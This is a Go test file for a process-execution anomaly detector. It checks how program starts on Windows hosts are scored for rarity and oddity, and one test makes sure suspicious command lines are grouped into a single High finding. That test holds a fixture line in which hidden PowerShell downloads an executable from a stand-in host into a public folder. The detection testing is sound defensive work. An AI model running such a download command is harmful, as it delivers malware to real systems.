package process

import (
	"fmt"
	"math"
	"math/rand/v2"
	"strings"
	"testing"

	"sparkless/publish/anomaly"
)

// An oddity's place in the tail is what its share of the executions says.
func TestTailIsTheShareOfExecutions(t *testing.T) {
	rng := rand.New(rand.NewPCG(4, 4))
	for range 200 {
		all := make([]judged, 1+rng.IntN(60))
		total := int64(0)
		for i := range all {
			n := 1 + int64(math.Exp(rng.Float64()*9))
			all[i] = judged{row: row{group: &group{span: span{count: n}}}, oddity: float64(rng.IntN(12)) / 12}
			total += n
		}
		j := &judge{tail: tailOf(all)}
		for _, one := range all {
			above := int64(0)
			for _, o := range all {
				if o.oddity >= one.oddity {
					above += o.group.count
				}
			}
			want := 0.0
			for i := 0; i <= tailSteps*tailDecades && float64(above) <= float64(total)*math.Pow(10, -float64(i)/tailSteps)*(1+1e-9); i++ {
				want = min(1, max(0, (float64(i)/tailSteps-1)/3))
			}
			if got := j.oddness(one.oddity); math.Abs(got-want) > 1e-9 {
				t.Fatalf("%d of %d are as odd: %v, want %v", above, total, got, want)
			}
		}
	}
}

// A day of ten times as many executions of the same kinds judges them alike.
func TestScoresDoNotHangOnTheSizeOfADay(t *testing.T) {
	of := func(n int) float64 {
		return finish(t, detector(), stateOf(append(office(n), attack)), NewState())[0].Score
	}
	if a, b := of(1000), of(20000); math.Abs(a-b) > 0.05 {
		t.Errorf("an attack among 1,000 executions scores %v, and %v among 20,000", a, b)
	}
}

// What is rare, new and odd, and nothing else, is Low at most.
func TestRarityAloneIsLow(t *testing.T) {
	j := &judge{tail: []float64{0, 0, 0}}
	for range tailSteps * tailDecades {
		j.tail = append(j.tail, 0.4)
	}
	one := &judged{row: row{program: &program{path: "x"}, group: &group{}}, oddity: 1}
	if p := j.weighed(one, usage{pattern: 1, pair: 1, rarity: 1, fresh: true}); p.score() > 0.4+1e-9 || p.score() < 0.39 || p.signs != 0 {
		t.Errorf("%+v", p)
	}
	odd := start{at: friday, path: `C:\Tools\Invent\inventory.exe`, parent: `C:\Tools\start.exe`, host: "HOST1", account: `D\u`, command: `inventory.exe`}
	d := detector()
	day := stateOf(append(office(3000), odd))
	for _, f := range finish(t, d, day, historyOf(t, d, day, 7, office(300))) {
		if f.Score >= medium {
			t.Errorf("%s: %.2f %s", f.Severity, f.Score, f.Description)
		}
	}
}

// Evidence is worth less, the more often the same is done on a day, and never more.
func TestWhatIsOftenDoneIsLessEvidence(t *testing.T) {
	last := 1.0
	for _, n := range []int64{0, 1, 3, 4, 30, 299, 300, 1 << 40} {
		got := rarely(n)
		if got > last || got < 0.4-1e-9 || n <= 3 && got != 1 || n >= 300 && got > 0.4+1e-9 {
			t.Errorf("%d times: %v after %v", n, got, last)
		}
		last = got
	}
	if rarely(4) == 1 {
		t.Error("four times count as one")
	}
}

// Set-ups with names of their own are one program in a folder, and known as such from
// earlier days.
func TestSetUpsAreKnownAsAClass(t *testing.T) {
	setUps := func(day int) (all []start) {
		rng := rand.New(rand.NewPCG(9, uint64(day)))
		for i := range 30 {
			path := fmt.Sprintf(`C:\Users\u%d\AppData\Local\Temp\%08x.exe`, i%9, 0x10000000+rng.Uint32()>>1)
			all = append(all, start{at: friday + int64(i), path: path, parent: `C:\Windows\System32\msiexec.exe`, host: fmt.Sprint("HOST", i%20), account: `CONTOSO\HOST$`, command: path + " /q"})
		}
		return all
	}
	d := detector()
	day := stateOf(append(office(2000), setUps(0)...))
	past := d.Past(day)
	for n := 1; n <= 7; n++ {
		earlier := append(office(500), setUps(n)...)
		for i := range earlier {
			earlier[i].at -= int64(n) * 24 * hour
		}
		one := d.Past(day)
		if _, err := one.Decode(encoded(t, stateOf(earlier))); err != nil {
			t.Fatal(err)
		}
		past.Merge(one)
	}
	if path := programOf(setUps(0)[0].path); past.past.programs[path].days != 7 {
		t.Errorf("%s was seen on %d days", path, past.past.programs[path].days)
	}
	for _, f := range finish(t, d, day, past) {
		t.Errorf("%.2f %s", f.Score, f.Description)
	}
}

// A shell that runs everywhere is judged by what it does, and the finding has the other
// odd lines beside the worst.
func TestAFindingListsTheOtherOddLines(t *testing.T) {
	second := attack
	second.parent, second.command = `C:\Windows\System32\cmd.exe`, `powershell -w hidden iwr https://x.example/a -OutFile C:\Users\Public\a.exe`
	f := finish(t, detector(), stateOf(append(office(4000), attack, second)), NewState())
	if len(f) != 1 {
		t.Fatalf("%d findings", len(f))
	}
	lines := []string{}
	for _, e := range f[0].Entities {
		if e.Kind == "commandline" {
			lines = append(lines, e.Value)
		}
	}
	if len(lines) != 2 || !strings.Contains(lines[0], "-enc") || lines[1] != second.command || strings.Contains(string(f[0].AnomalyDetails), "check.ps1") {
		t.Errorf("%q, %s", lines, f[0].AnomalyDetails)
	}
	if f[0].Severity != anomaly.High {
		t.Error(f[0].Severity, f[0].Score)
	}
}
